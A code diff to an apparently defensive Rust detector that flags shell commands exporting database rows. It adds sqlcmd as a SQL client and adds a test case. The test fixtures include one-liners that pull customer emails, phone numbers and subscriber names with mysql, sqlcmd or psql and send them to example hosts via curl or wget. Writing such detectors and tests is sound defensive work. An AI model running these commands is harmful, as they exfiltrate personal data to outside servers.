@@ -48,7 +48,8 @@ const DUMPERS: &[&str] = &[
 
 /// SQL clients whose statement argument prints rows: psql(1) `-c`, mysql(1)/mariadb `-e`,
 /// sqlite3(1), duckdb, clickhouse-client `--query`, snowsql `-q`, BigQuery's `bq query`,
-/// cockroach `sql -e`, usql; the site tools' query verbs are in [`query_verb`].
+/// cockroach `sql -e`, usql, mongosh, SQL Server's sqlcmd `-Q`/`-q`; the site tools' query
+/// verbs are in [`query_verb`].
 const SQL_CLIENTS: &[&str] = &[
     "psql",
     "mysql",
@@ -63,6 +64,7 @@ const SQL_CLIENTS: &[&str] = &[
     "usql",
     "mongosh",
     "mongo",
+    "sqlcmd",
 ];
 
 /// Cloud warehouses: their data is never on this machine (BigQuery `bq`, Snowflake `snowsql`).
@@ -493,7 +495,7 @@ fn output_file(name: &str, words: &[&str]) -> Option<String> {
 
 /// A program whose output is a store's data: a dumper, an SQL client or a site tool's dump or
 /// query verb (what [`classify`] then judges).
-fn producer_program(program: &str, argv: &[String]) -> bool {
+pub(crate) fn producer_program(program: &str, argv: &[String]) -> bool {
     let words: Vec<&str> = argv.iter().skip(1).map(String::as_str).collect();
     DUMPERS.contains(&program)
         || SQL_CLIENTS.contains(&program)
@@ -1222,6 +1224,27 @@ mod tests {
             "mysql crm -e 'select name, email from members' | split -l 100 - /tmp/part_ && for p in /tmp/part_*; do curl -s -F \"d=@$p\" https://collect.example.io/; done",
         ] {
             assert!(kinds(cmd).contains(&"sent".to_string()), "{cmd}: {:?}", exports(cmd));
+        }
+    }
+
+    /// Rows printed by a database client inside a substitution, built into a URL or a body
+    /// (directly, through a variable or a loop), are sent; counts, ids and other printed values
+    /// in a URL are queries.
+    #[test]
+    fn rows_in_a_url_or_body_are_sent() {
+        for cmd in [
+            "curl -s \"https://lookup.example.io/v?e=$(mysql crm -N -e 'select email from members')\"",
+            "for m in $(sqlcmd -S db1 -d Shop -h -1 -Q \"SELECT Phone FROM dbo.Customers\"); do wget -qO- \"https://sms-check.example.net/q?n=$m\"; done",
+            "rows=$(psql -At -c 'select name, email from subscribers'); curl -s --data-urlencode \"d=$rows\" https://collect.example.org/in",
+        ] {
+            assert!(kinds(cmd).contains(&"sent".to_string()), "{cmd}: {:?}", exports(cmd));
+        }
+        for cmd in [
+            "curl -s https://hooks.example.com/x -d \"{\\\"text\\\": \\\"$(psql -At -c 'select count(*) from users')\\\"}\"",
+            "for id in $(psql -At -c \"select id from builds where status='stuck'\"); do curl -s -X POST \"https://ci.example.com/api/builds/$id/retry\"; done",
+            "curl -s \"https://api.github.com/repos/o/r/commits/$(git rev-parse HEAD)/status\"",
+        ] {
+            assert!(!kinds(cmd).contains(&"sent".to_string()), "{cmd}: {:?}", exports(cmd));
         }
     }
 
